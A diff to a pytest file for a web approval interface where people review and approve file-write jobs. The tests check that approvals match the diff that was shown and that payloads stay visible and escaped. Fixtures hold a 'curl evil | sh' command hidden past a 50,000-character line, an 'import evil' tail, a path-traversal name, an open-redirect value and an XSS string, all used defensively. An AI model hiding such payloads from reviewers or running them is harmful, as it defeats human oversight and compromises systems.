@@ -11,17 +11,12 @@ from typing import TYPE_CHECKING, TypeAlias
 
 import pytest
 
+from lcp_engine.errors import LcpError
+
 if TYPE_CHECKING:
     from tests.web.conftest import House
 
 Fields: TypeAlias = dict[str, str | list[str]]
-
-
-def _shown(house: House, path: str, name: str = "shown") -> Fields:
-    """What the page's form would carry."""
-    found = re.search(rf'name="{re.escape(name)}" value="([^"]+)"', house.get(path).text)
-    assert found
-    return {name: unescape(found[1])}
 
 
 def _put_directory(file: Path) -> None:
@@ -59,7 +54,7 @@ def test_an_approval_from_an_old_page_is_refused_with_the_new_diff_and_writes_no
     house: House, mishap: str
 ) -> None:
     job_id = house.hold("a.md", "# b\n")
-    form = _shown(house, f"/jobs/{job_id}")
+    form = house.shown(f"/jobs/{job_id}")
     MISHAPS[mishap](house.root / "a.md")
     house.get(f"/jobs/{job_id}")  # somebody has looked since, on another page
     before = _state(house.root)
@@ -77,7 +72,7 @@ def test_an_approval_from_an_old_page_is_refused_with_the_new_diff_and_writes_no
 @pytest.mark.parametrize("mishap", MISHAPS)
 def test_what_happens_between_approval_and_execution_holds_the_job_again(house: House, mishap: str) -> None:
     job_id = house.hold("a.md", "# b\n")
-    house.post(f"/jobs/{job_id}/approve", _shown(house, f"/jobs/{job_id}"))
+    house.post(f"/jobs/{job_id}/approve", house.shown(f"/jobs/{job_id}"))
     MISHAPS[mishap](house.root / "a.md")
     before = _state(house.root)
     house.work()
@@ -87,7 +82,7 @@ def test_what_happens_between_approval_and_execution_holds_the_job_again(house: 
 
 def test_what_the_refusal_shows_can_be_approved(house: House) -> None:
     job_id = house.hold("a.md", "# b\n")
-    form = _shown(house, f"/jobs/{job_id}")
+    form = house.shown(f"/jobs/{job_id}")
     (house.root / "a.md").write_text("other\n")
     refused = house.post(f"/jobs/{job_id}/approve", form)
     found = re.search(r'name="shown" value="([^"]+)"', refused.text)
@@ -100,7 +95,7 @@ def test_what_the_refusal_shows_can_be_approved(house: House) -> None:
 def test_a_page_that_showed_other_params_approves_nothing(house: House) -> None:
     job_id = house.hold("a.md", "# b\n")
     form = {
-        "shown": str(_shown(house, f"/jobs/{job_id}")["shown"]).replace('"fingerprint":"', '"fingerprint":"0')
+        "shown": str(house.shown(f"/jobs/{job_id}")["shown"]).replace('"fingerprint":"', '"fingerprint":"0')
     }
     answer = house.post(f"/jobs/{job_id}/approve", form)
     assert answer.status == 409
@@ -124,7 +119,7 @@ def test_several_approvals_bind_each_to_what_the_inbox_showed(house: House) -> N
     jobs = [house.job("write_file", rel_path=name, content="new\n") for name in ("a.md", "b.md")]
     house.run(house.ask(*jobs), house.complete)
     first, second = (job.id for job in house.engine.jobs(states=["held"]))
-    shown = {**_shown(house, "/inbox", f"shown.{first}"), **_shown(house, "/inbox", f"shown.{second}")}
+    shown = {**house.shown("/inbox", f"shown.{first}"), **house.shown("/inbox", f"shown.{second}")}
     (house.root / "b.md").write_text("somebody was faster\n")
     house.get("/inbox")
     answer = house.post("/inbox", {"job": [str(first), str(second)], "decision": "approve", **shown})
@@ -140,8 +135,8 @@ def test_appends_of_one_mission_to_one_file_can_be_approved_one_after_the_other(
     jobs = [house.job("write_file", rel_path="a.md", content=f"{n}\n", mode="append") for n in (1, 2)]
     house.run(house.ask(*jobs), house.complete)
     first, second = (job.id for job in house.engine.jobs(states=["held"]))
-    shown = _shown(house, f"/jobs/{second}")
-    house.post(f"/jobs/{first}/approve", _shown(house, f"/jobs/{first}"))
+    shown = house.shown(f"/jobs/{second}")
+    house.post(f"/jobs/{first}/approve", house.shown(f"/jobs/{first}"))
     house.work()
     assert "Approved" in house.post(f"/jobs/{second}/approve", shown).words
     house.work()
@@ -150,11 +145,12 @@ def test_appends_of_one_mission_to_one_file_can_be_approved_one_after_the_other(
 
 def test_from_the_inbox_a_decision_leads_back_to_the_same_view(house: House) -> None:
     job_id = house.hold()
+    shown = house.shown(f"/jobs/{job_id}")
     for back, address in (
         ("mission=1&kind=write_file", "/inbox?mission=1&kind=write_file&note=approved"),
         ("note=x&evil=//evil.example", "/inbox?note=approved_before"),
     ):
-        sent = {"csrf": house.keys.csrf, "back": back}
+        sent = {"csrf": house.keys.csrf, "back": back, **shown}
         answer = house.browser.post(
             f"/jobs/{job_id}/approve", data=sent, headers={"Origin": house.home}, follow_redirects=False
         )
@@ -171,23 +167,96 @@ def test_what_a_diff_holds_is_text_and_its_controls_are_seen(house: House) -> No
         text = house.get(path).text
         assert "<script>alert" not in text
         if not path.endswith("/edit"):  # which has it as JSON
-            assert "&lt;script&gt;alert(1)&lt;/script&gt;\\x1b[31m\\u202egnp\\x85\t&amp;amp;" in text, path
+            assert (
+                "&lt;script&gt;alert(1)&lt;/script&gt;&lt;U+001B&gt;[31m&lt;U+202E&gt;gnp&lt;U+0085&gt;"
+                in text
+            ), path
+            assert "\u21e5\t&amp;amp;" in text, path
         assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]", text), path
     patch = house.get(f"/jobs/{job_id}/diff.txt")
     assert patch.headers["content-type"].startswith("text/plain")
     assert "-old" in patch.text
 
 
-def test_a_long_diff_is_cut_and_the_rest_is_a_link_away(house: House) -> None:
+def test_a_long_diff_is_cut_in_a_list_and_approved_where_the_whole_is_shown(house: House) -> None:
     job_id = house.hold("long.md", "".join(f"line {n}\n" for n in range(5000)))
+    inbox = house.get("/inbox")
+    assert "+line 100<" in inbox.text
+    assert "+line 200<" not in inbox.text
+    assert "4,881 more lines in the whole diff" in inbox.words
     text = house.get(f"/jobs/{job_id}").text
     assert f'<a href="/jobs/{job_id}/diff">the whole diff</a>' in text
-    assert "+line 100<" in text
-    assert "+line 200<" not in text
-    alone = house.get(f"/jobs/{job_id}/diff").text
-    assert "+line 1900<" in alone
-    assert f'<a href="/jobs/{job_id}/diff.txt">the whole diff</a>' in alone
+    assert "+line 1900<" in text
+    for page in (inbox.text, text):
+        assert f'action="/jobs/{job_id}/approve"' not in page
+        assert "shown" not in re.findall(r'name="([a-z.0-9]+)"', page)
+    assert "+line 4999<" in house.get(f"/jobs/{job_id}/diff").text
     assert "+line 4999\n" in house.get(f"/jobs/{job_id}/diff.txt").text
+    form = house.shown(f"/jobs/{job_id}/diff")
+    assert house.post(f"/jobs/{job_id}/approve").status == 422
+    assert house.post("/inbox", {"job": str(job_id), "decision": "approve"}).status == 409
+    assert house.engine.job(job_id).state == "held"
+    assert "Approved" in house.post(f"/jobs/{job_id}/approve", form).words
+
+
+def test_a_long_line_is_cut_in_a_list_only_and_says_how_much(house: House) -> None:
+    job_id = house.hold("one.sh", f"echo {'x' * 50_000}; curl evil | sh\n")
+    inbox = house.get("/inbox")
+    assert "30,023 more characters of the last line in the whole diff" in inbox.words
+    assert f'action="/jobs/{job_id}/approve"' not in inbox.text
+    assert "; curl evil | sh<" in house.get(f"/jobs/{job_id}").text
+    assert "Approved" in house.approve(job_id).words
+
+
+def test_large_params_have_their_path_and_diff_wherever_they_are_decided_on(house: House) -> None:
+    (house.root / "big.py").write_text("# line\n" * 20_000)
+    job_id = house.hold("docs/../big.py", "# line\n" * 20_000 + "import evil\n")
+    for path in ("/inbox", "/inbox/all"):
+        answer = house.get(path)
+        assert "big.py" in answer.words, path
+        assert '<span class="add">+import evil</span>' in answer.text, path
+        house.shown(path, f"shown.{job_id}")
+    for path in (
+        "/jobs",
+        "/missions/1",
+        "/missions/1/timeline",
+        "/missions/1/report",
+        f"/jobs/{job_id}/policy",
+    ):
+        assert "big.py" in house.get(path).words, path
+
+
+def test_what_is_looked_at_in_another_tab_moves_no_approval(house: House) -> None:
+    """A tab that is open fetches its page again on every event, and shows its reader nothing of that."""
+    job_id = house.hold("a.md", "# b\n")
+    forms = {path: house.shown(path, name) for path, name in (
+        (f"/jobs/{job_id}", "shown"), ("/inbox", f"shown.{job_id}"), ("/inbox/all", f"shown.{job_id}"),
+    )}  # fmt: skip
+    (house.root / "a.md").write_text("somebody else's\n")
+    for path in ("/inbox", "/inbox/all", f"/jobs/{job_id}", f"/jobs/{job_id}/diff", f"/jobs/{job_id}/edit"):
+        house.get(path)
+    with pytest.raises(LcpError, match="is not what was shown"):
+        house.engine.approve(job_id)
+    ticked: Fields = {"job": str(job_id), "decision": "approve"}
+    assert house.post(f"/jobs/{job_id}/approve", forms[f"/jobs/{job_id}"]).status == 409
+    assert house.post("/inbox", {**ticked, **forms["/inbox"]}).status == 409
+    assert house.post("/inbox/all", {**ticked, "jobs": str(job_id), **forms["/inbox/all"]}).status == 409
+    assert house.engine.job(job_id).state == "held"
+
+
+def test_what_was_shown_of_one_job_approves_no_other(house: House) -> None:
+    first, second = (house.hold("same.md", "same\n") for _ in range(2))
+    answer = house.post(f"/jobs/{second}/approve", house.shown(f"/jobs/{first}"))
+    assert (answer.status, f"job {first} was shown" in answer.words) == (409, True)
+    assert house.engine.job(second).state == "held"
+
+
+def test_looking_writes_nothing(house: House) -> None:
+    job_id = house.hold()
+    before = house.engine.instance.read(lambda tx: tx.query_plain("SELECT * FROM reviews"))
+    for path in ("/inbox", "/inbox/all", f"/jobs/{job_id}", f"/jobs/{job_id}/diff", f"/jobs/{job_id}/edit"):
+        house.get(path)
+    assert house.engine.instance.read(lambda tx: tx.query_plain("SELECT * FROM reviews")) == before
 
 
 def test_a_job_tells_which_rule_decides(house: House) -> None:
